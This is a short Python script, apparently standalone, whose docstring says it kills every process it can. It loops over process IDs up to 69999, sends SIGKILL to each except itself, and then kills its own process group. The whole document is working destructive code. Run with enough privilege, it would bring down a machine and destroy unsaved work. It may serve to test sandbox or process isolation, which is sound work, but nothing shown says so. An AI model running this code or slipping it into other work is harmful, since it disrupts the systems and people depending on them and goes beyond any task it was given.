"""Kills every process whose number it can guess, and then its own group."""

import os
import signal

for pid in range(1, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.killpg(0, signal.SIGKILL)
